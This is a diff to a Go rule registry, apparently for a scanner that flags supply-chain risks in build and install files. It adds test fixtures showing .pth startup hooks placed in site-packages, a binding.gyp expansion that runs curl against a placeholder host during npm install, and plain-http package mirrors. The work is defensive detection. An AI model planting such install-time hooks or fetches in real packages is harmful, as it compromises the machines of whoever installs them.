@@ -184,6 +184,12 @@ var registry = []Rule{
 			{"setup.py", "setup(\n    data_files=[(sysconfig.get_paths()[\"purelib\"], [\"x-init.pth\"])],\n)", 2, false},
 			{"x.py", "open(os.path.join(site.getsitepackages()[0], 'zz.pth'), 'w').write('import x')", 0, false},
 			{"x.py", "import pathlib", 0, true},
+			// Packaging config that lands a .pth at the top of site-packages.
+			{"setup.cfg", "[options.data_files]\nlib/site-packages = src/x-hook.pth", 2, false},
+			{"pyproject.toml", "[tool.hatch.build.targets.wheel.force-include]\n\"src/x_boot.pth\" = \"x_boot.pth\"", 2, false},
+			{"CMakeLists.txt", "install(FILES python/x_init.pth DESTINATION ${SKBUILD_PLATLIB_DIR})", 0, false},
+			// Model weights are .pth files too; loading one is not installing a hook.
+			{"x.py", "model.load_state_dict(torch.load(\"weights/resnet18.pth\"))", 0, true},
 		}},
 	{"ai-agent-unleashed", KindExecute, High, "runs an AI coding agent with its permission checks turned off",
 		"the agent then reads files and runs commands on its own (the Nx s1ngularity payload had agents search the machine for secrets), on the runner or on every machine that installs the package", []Case{
@@ -200,6 +206,9 @@ var registry = []Rule{
 	{"build-code-fetch", KindDownload, High, "downloads, connects or starts a process from code that runs by itself at install, build or test time",
 		"nobody has to call it: the build or test run does, on the runner with its network and secrets", []Case{
 			{"setup.py", "import urllib.request\nurllib.request.urlopen('https://x.invalid/p')", 2, false},
+			// A gyp command expansion runs while npm installs the package.
+			{"binding.gyp", "{\"targets\": [{\"target_name\": \"a\",\n  \"defines\": [\"<!(curl -s https://x.invalid/defines)\"]}]}", 2, false},
+			{"binding.gyp", "{\"targets\": [{\"target_name\": \"a\",\n  \"include_dirs\": [\"<!(node -e \\\"require('nan')\\\")\"]}]}", 2, true},
 		}},
 	{"install-background-process", KindExecute, High, "starts a detached background process from code that runs at install or build",
 		"the install returns and the process keeps running, out of the build log's sight, with the runner's network and secrets (as the Shai-Hulud loader started its payload)", []Case{
@@ -335,6 +344,10 @@ var registry = []Rule{
 	{"package-index-insecure", KindDependency, High, "installs from plain http or without checking the index's certificate",
 		"anyone on the runner's network path can swap what it installs", []Case{
 			{"x.sh", "pip install --trusted-host pypi.invalid x", 0, false},
+			// Plain http in any package manager's config.
+			{"settings.xml", "<mirrors>\n  <mirror>\n    <mirrorOf>*</mirrorOf>\n    <url>http://repo.x.invalid/maven2</url>\n  </mirror>\n</mirrors>", 4, false},
+			{"NuGet.config", "<packageSources>\n  <add key=\"f\" value=\"http://nuget.x.invalid/v3/index.json\" />\n</packageSources>", 2, false},
+			{"pom.xml", "<repositories>\n  <repository>\n    <url>http://localhost:8081/repository/maven-public/</url>\n  </repository>\n</repositories>", 3, true},
 		}},
 	{"in-tree-build-backend", KindBuildFile, High, "builds with a backend from the tree itself (backend-path)",
 		"pip imports and runs the change's own code at install, before any test", []Case{
